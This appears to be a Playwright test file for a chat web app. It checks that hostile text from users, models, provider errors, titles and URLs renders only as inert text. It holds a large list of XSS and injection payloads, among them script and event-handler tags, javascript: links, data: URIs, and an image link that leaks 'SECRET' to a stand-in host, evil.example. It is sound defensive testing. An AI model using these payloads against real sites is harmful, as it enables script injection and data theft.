"""Text of models, people and providers is hostile: wherever it is shown, it is only ever text.

Every payload tries to run ``hack()``, to open a dialog, to go elsewhere, or to fetch something from a foreign host.
The browser reports each of these by itself (``Oddities``); what the page is made of is looked at too.
"""

from __future__ import annotations

import json
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from devservers.app import Served
from streamchat.chat.events import Finished, TextDelta
from streamchat.chat.fold import fold
from streamchat.chat.messages import TextPart
from streamchat.chat.request import NewRun
from streamchat.storage import Storage
from tests.browser.conftest import OpenPage
from tests.browser.test_conversations import imported
from tests.browser.test_markdown import OPEN, answer, finished, utf16
from tests.support.chat_page import ChatPage
from tests.support.long import LONG
from tests.support.loop import LoopThread
from tests.support.tabs import Tabs
from tests.support.vendor import Reply, Vendor

HACK = "window.hacked=1;alert(1)"
EVIL = "https://evil.example"
PAYLOADS = (
    # Script, in every dress
    f"<script>{HACK}</script>",
    f"<script async src={EVIL}/x.js></script>",
    f"<ScRiPt/x>{HACK}</sCrIpT>",
    f"<scr<script>ipt>{HACK}</script>",
    f"before\n\n<div><script>{HACK}</script></div>\n\nafter",
    f"<img src=x onerror='{HACK}'>",
    f'<img src="{EVIL}/i.png" srcset="{EVIL}/2.png 2x">',
    f"<svg onload='{HACK}'><script>{HACK}</script></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{HACK}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><style><img src=x onerror='{HACK}'></style></mtext></math>",
    f"<details open ontoggle='{HACK}'><summary>s</summary></details>",
    f"<body onload='{HACK}'>",
    f"<video autoplay onplay='{HACK}' poster={EVIL}/p.png><source src={EVIL}/v onerror='{HACK}'></video>",
    f"<input autofocus onfocus='{HACK}' type=image src={EVIL}/b.png>",
    f"<marquee onstart='{HACK}'>m</marquee>",
    # Frames, forms, and pieces of a head
    f"<iframe srcdoc=\"<script>parent.{HACK}</script>\"></iframe><iframe src='javascript:{HACK}'></iframe>",
    f"<object data='{EVIL}/o.html'></object><embed src='{EVIL}/e.html'>",
    f"<form action='{EVIL}'><input type=password name=p><button formaction='javascript:{HACK}'>Log in</button></form>",
    f"<style>body{{display:none}} @import url({EVIL}/c.css);</style>",
    f"<link rel=stylesheet href={EVIL}/s.css><link rel=prefetch href={EVIL}/f>",
    f"<base href={EVIL}/>\n\n[relative](x)",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f'<div style="position:fixed;inset:0;z-index:9999;background:url({EVIL}/bg.png)">covered</div>',
    f"<template><script>{HACK}</script></template><noscript><p title='</noscript><img src=x onerror={HACK}>'>",
    f"<!--><img src=x onerror='{HACK}'>-->",
    f"<![CDATA[<img src=x onerror='{HACK}'>]]><?xml version='1.0'?><!DOCTYPE html>",
    # Links
    f"[click](javascript:{HACK})",
    f"[click](  JaVaScRiPt:{HACK} )",
    f"[click](java\tscript:{HACK})",
    f"[click](&#106;avascript:{HACK}) [click](javascript&colon;{HACK})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [c](vbscript:msgbox(1))",
    f"[click](<javascript:{HACK}>) [ref][r]\n\n[r]: javascript:{HACK}",
    f"<javascript:{HACK}> <{EVIL}/auto> {EVIL}/bare www.evil.example user@evil.example",
    f'[title](https://example.com "onmouseover={HACK} x=")',
    "[own](/c/abc) [own](//evil.example/x) [own](file:///etc/passwd) [own](blob:https://evil.example/1) [f](ftp://x/y)",
    f"<a href='javascript:{HACK}'>a</a><a href={EVIL} ping={EVIL} target=_top>b</a>",
    # Images
    f"![secret]({EVIL}/?q=SECRET)",
    f"![secret][i] ![also]\n\n[i]: {EVIL}/ref.png\n[also]: <{EVIL}/also.png> 'title'",
    f"[![nested]({EVIL}/n.png)](javascript:{HACK})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![y](//evil.example/y.png)",
    f'![x]({EVIL}/a.png" onerror="{HACK}) ![`x`]({EVIL}/b.png)',
    # Where Markdown and HTML meet
    f"```html\n<script>{HACK}</script>\n```",
    f"```<img src=x onerror={HACK}>\ncode\n```",
    f"`<img src=x onerror={HACK}>` &lt;script&gt;{HACK}&lt;/script&gt; &#60;img src=x onerror={HACK}&#62;",
    f"| a |\n|---|\n| <img src=x onerror='{HACK}'> <br> ![t]({EVIL}/t.png) |",
    f"- [ ] <input type=checkbox onclick='{HACK}'>\n- [x] done",
    f"[^1] text\n\n[^1]: <img src=x onerror='{HACK}'> ![f]({EVIL}/foot.png)",
    f"$$\\href{{javascript:{HACK}}}{{x}}$$ $\\unicode{{<img src=x onerror={HACK}>}}$",
    f'```mermaid\ngraph TD; A["<img src=x onerror=\'{HACK}\'>"] --> B; click A "javascript:{HACK}"\n```',
    f"\u202e<img src=x onerror='{HACK}'>\u2066\x1b]8;;javascript:{HACK}\x07x",
    f"{{{{constructor.constructor('{HACK}')()}}}} ${{{HACK}}} <%= {HACK} %>",
    f"<x-unknown onclick='{HACK}' is=script>u</x-unknown><slot></slot><portal src={EVIL}>",
)
# On ways of which the other tests take parts, with all of them.
FEW = PAYLOADS[::4] if LONG else PAYLOADS[::13]
# What no message may be made of.
FORBIDDEN = (
    "script, iframe, frame, object, embed, style, link, meta, base, form, img, picture, video, audio, source, svg *"
    " script, foreignObject, template, marquee, math, portal, slot, input:not([type=checkbox][disabled]), [style]"
)


@pytest.fixture(scope="module")
def hostile_vendor(loop: LoopThread) -> Iterator[Vendor]:
    """Says what it was asked, a few characters at a time; to ``ERROR …`` with an error of that text."""

    def mirror(request: dict[str, Any]) -> Reply:
        asked: str = request["messages"][-1]["content"]
        if asked.startswith("ERROR "):
            return Reply(status=400, body=json.dumps({"error": {"message": asked[6:], "type": "x", "code": None}}))
        if asked.startswith("REASONING "):
            thoughts = [{"reasoning_content": asked[i : i + 7]} for i in range(10, len(asked), 7)]
            return Reply([*thoughts, "Done."])
        return Reply([asked[i : i + 7] for i in range(0, len(asked), 7)])

    vendor = Vendor(loop).start()
    vendor.answer = mirror
    yield vendor
    vendor.close()


@pytest.fixture(scope="module")
def hostile(built: None, hostile_vendor: Vendor, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    names = ",".join(f"openai:{text.replace(',', ';')}" for text in (PAYLOADS[0], PAYLOADS[5], PAYLOADS[7]))
    settings = {
        "OPENAI_BASE_URL": hostile_vendor.url,
        "STREAMCHAT_MODELS": f"openai:mirror,{names}",
        "STREAMCHAT_RETRIES": "0",
    }
    server = Served(tmp_path_factory.mktemp("hostile") / "data", settings).start()
    yield server
    server.stop()


@pytest.fixture
def safe_page(open_page: OpenPage, hostile: Served, tabs: Tabs) -> Iterator[Callable[..., ChatPage]]:
    """Opens the hostile server's page; at the end nothing may have run, opened or moved."""
    pages: list[ChatPage] = []

    def opened(path: str, wired: bool = False) -> ChatPage:
        pages.append(open_page(path, server=hostile, wired=wired))
        # In the frame that draws diagrams, whose policy lets none of them run.
        pages[-1].oddities.allow(r"Executing inline event handler violates.*mermaid")
        return pages[-1]

    yield opened
    for chat in pages:
        chat.paints(20)
        assert chat.page.evaluate("window.hacked") is None
        assert chat.page.url.startswith(chat.url)
    assert tabs.opened() == [], "a window was opened"


def assert_harmless(chat: ChatPage) -> None:
    """What is in the page now is text, and links that may be followed."""
    found = chat.page.evaluate(
        """(forbidden) => {
            const bad = [];
            for (const place of document.querySelectorAll("[data-message-id], .conversation, header, form.composer p"))
                for (const node of [place, ...place.querySelectorAll("*")]) {
                    const names = [...node.attributes].map(({ name }) => name);
                    // What the page itself makes: pictures of diagrams, which run nothing, and typeset formulas.
                    const drawn = node.matches(".diagram .picture > img") && /^(blob:|data:image.svg)/.test(node.src);
                    const typeset = node.closest(".katex") && !node.matches("script, iframe, img, style, object, form");
                    const live = names.some((n) => /^(on.*|src|srcset|ping|formaction|xlink:href)$/.test(n)) && !drawn;
                    const ours = drawn || typeset || node.closest("button, summary");
                    const wrong = node !== place && node.matches(forbidden) && !ours;
                    if (live || wrong) bad.push(node.outerHTML.slice(0, 120));
                }
            for (const link of document.querySelectorAll("[data-message-id] a")) {
                const rel = new Set(link.rel.split(" "));
                const hardened = ["noopener", "noreferrer", "nofollow"].every((word) => rel.has(word));
                if (/^#note-[\\w%.~-]+$/.test(link.getAttribute("href"))) continue; // from a mark to its note
                const away = /^(https?|mailto):/.test(link.href) && new URL(link.href).origin !== location.origin;
                if (!away || !hardened || link.target !== "_blank") bad.push(link.outerHTML);
            }
            return bad;
        }""",
        FORBIDDEN,
    )
    assert found == []


def test_the_check_would_notice(safe_page: Callable[..., ChatPage]):
    """What the other tests rely on: an element, an attribute or a link that may not be there is found."""
    chat = safe_page("/")
    chat.ask("hello").wait_status("finished")
    assert_harmless(chat)
    chat.oddities.allow("Executing inline event handler violates")
    for html in (
        "<iframe></iframe>",
        "<b onclick='1'>x</b>",
        "<a href='/c/x' rel='noopener noreferrer nofollow'>x</a>",
    ):
        chat.page.evaluate("(html) => { document.querySelector('[data-message-id]').innerHTML = html; }", html)
        with pytest.raises(AssertionError):
            assert_harmless(chat)


def question(name: str, text: str) -> dict[str, Any]:
    return finished(name, text) | {"role": "user"}


def test_questions_and_answers_that_stream(safe_page: Callable[..., ChatPage], tabs: Tabs):
    """Every payload as a question and as an answer that streams in, side by side: text and links, no more."""
    chat = safe_page("/", wired=True)
    wire = tabs.wire(chat.page)
    wire.quiet = True
    pairs = [(question(f"q{n}", text), answer(f"a{n}")) for n, text in enumerate(PAYLOADS)]
    wire.tell(OPEN | {"messages": [message for pair in pairs for message in pair]})
    expect(chat.answers).to_have_count(len(PAYLOADS))
    for at in range(0, max(map(len, PAYLOADS)), 7):
        for n, text in enumerate(PAYLOADS):
            if at < len(text):
                piece = {"m": f"a{n}", "s": at // 7 + 1, "p": 0, "o": utf16(text[:at]), "t": text[at : at + 7]}
                wire.tell(piece)
        chat.paints(1)
    for n, text in enumerate(PAYLOADS):
        end = {"k": "end", "m": f"a{n}", "s": 1000, "status": "finished", "stop_reason": "stop"}
        wire.tell(end | {"length": utf16(text), "c": zlib.crc32(text.encode())})
    expect(chat.page.locator("[data-testid=message][data-status=finished]")).to_have_count(2 * len(PAYLOADS))
    assert_harmless(chat)


def test_questions_and_answers_that_are_loaded(safe_page: Callable[..., ChatPage], hostile: Served):
    """The same in a conversation that is opened; what looks like a link and is none does nothing."""
    texts = [text for text in PAYLOADS for _ in ("question", "answer")]
    chat = safe_page(f"/c/{imported(hostile, 'Hostile', *texts)}")
    expect(chat.answers.last).to_be_visible()
    earlier = chat.page.get_by_role("button", name="Show earlier messages")
    while chat.answers.count() < len(PAYLOADS):
        shown = chat.answers.count()
        earlier.click()
        expect(chat.answers).not_to_have_count(shown)
    chat.page.evaluate("document.querySelector('.scroller, main')?.scrollTo(0, 0)")
    chat.paints(60)
    assert_harmless(chat)
    for text in ("click", "own"):
        chat.page.locator("[data-testid=answer]").get_by_text(text, exact=True).first.click()


def test_questions_and_answers_of_a_model(safe_page: Callable[..., ChatPage]):
    """The same on the whole way, from the composer to a vendor and back, and after a reload."""
    chat = safe_page("/")
    for number, payload in enumerate(FEW):
        chat.ask(payload).wait_status("finished")
        expect(chat.answers).to_have_count(number + 1)
    assert_harmless(chat)
    chat.page.reload()
    chat.ready()
    expect(chat.answers.last).to_be_visible()
    chat.page.evaluate("document.querySelector('.scroller, main')?.scrollTo(0, 0)")
    chat.paints(60)
    assert_harmless(chat)


def test_reasoning(safe_page: Callable[..., ChatPage]):
    """The same in a model's thoughts, opened."""
    chat = safe_page("/")
    for number, payload in enumerate(FEW):
        chat.composer.fill(f"REASONING {payload}")
        chat.composer.press("Enter")
        expect(chat.answers).to_have_count(number + 1)
        chat.wait_status("finished")
        chat.answers.last.locator("summary", has_text="Thought").click()
    assert_harmless(chat)


def test_errors(safe_page: Callable[..., ChatPage]):
    """The same in the error text of a provider."""
    chat = safe_page("/")
    for payload in FEW:
        chat.ask(f"ERROR {payload}").wait_status("failed")
        expect(chat.errors.last).to_be_visible()
        assert_harmless(chat)


def test_titles(safe_page: Callable[..., ChatPage], hostile: Served, loop: LoopThread):
    """The same in the titles of the list, of the page, and of the window."""

    async def write() -> list[str]:
        store = Storage(f"sqlite:///{hostile.database}")
        await store.open()
        ids = []
        for number, payload in enumerate(PAYLOADS):
            begun = await store.begin(
                "local",
                NewRun(client_message_id=f"title-{number}", parts=(TextPart(payload),), model=payload[:100]),
                worker="tests",
            )
            await store.end(fold(begun.answer, [TextDelta("x"), Finished("stop")]), 2)
            ids.append(begun.conversation_id)
        await store.close()
        return ids

    ids = loop.run(write(), 60)
    chat = safe_page(f"/c/{ids[0]}")
    expect(chat.rows.nth(len(PAYLOADS) - 1)).to_be_attached()
    assert_harmless(chat)
    for conversation in ids[1::8]:
        chat.page.locator(f"[data-conversation-id='{conversation}']").click()
        expect(chat.page).to_have_url(f"{chat.url}/c/{conversation}")
        expect(chat.answers).to_have_count(1)
        assert_harmless(chat)


def test_models_and_addresses(safe_page: Callable[..., ChatPage]):
    """The same in the names of models and in the address."""
    chat = safe_page("/?model=" + PAYLOADS[5].replace(" ", "%20"))
    expect(chat.picker.locator("option")).to_have_count(4)
    assert chat.picker.locator("option *").count() == 0
    assert_harmless(chat)
    other = safe_page(
        "/c/x%3Cimg%20src=x%20onerror=alert(1)%3E?q=<script>alert(1)</script>#<img src=x onerror=alert(1)>"
    )
    expect(other.page.get_by_text("does not exist")).to_be_visible()
